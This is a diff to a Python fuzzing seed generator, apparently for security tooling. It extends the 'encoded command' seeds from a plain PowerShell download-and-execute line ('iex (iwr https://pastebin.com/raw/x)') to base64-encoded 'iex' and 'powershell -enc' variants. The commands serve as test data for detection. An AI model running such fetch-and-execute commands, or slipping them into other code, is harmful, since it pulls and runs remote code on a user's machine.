@@ -1,5 +1,6 @@
 """Files nearly as they should be: seeds of every kind, cut, spliced, repeated and salted."""
 
+import base64
 import io
 import random
 import struct
@@ -73,9 +74,11 @@ def seeds(target: str) -> tuple[bytes, ...]:
         series = ([30.0 * i for i in range(40)], [0.0] * 9, [1e-9, 1.0, 1e14], [-1e14, 0, 5e-324])
         return tuple(struct.pack(f"<{len(times)}d", *times) for times in series)
     if target == "encoded command":
-        return tuple(
-            "iex (iwr https://pastebin.com/raw/x)".encode(c) for c in ("utf-16-le", "ascii")
-        )
+        plain = "iex (iwr https://pastebin.com/raw/x)"
+        literal = base64.b64encode(plain.encode()).decode()
+        wide = base64.b64encode(plain.encode("utf-16-le")).decode()
+        inner = f"iex [Convert]::FromBase64String('{literal}')", f"powershell -enc {wide}"
+        return tuple(text.encode(c) for text in (plain, *inner) for c in ("utf-16-le", "ascii"))
     if target == "verdicts":
         head = "alert_id,host,process,domain,verdict,reason,analyst,labelled_at"
         return (f'{head}\n7cc034afb0a3,h,p,d,TruePositive,"a ""b""",me,now\n'.encode(),)
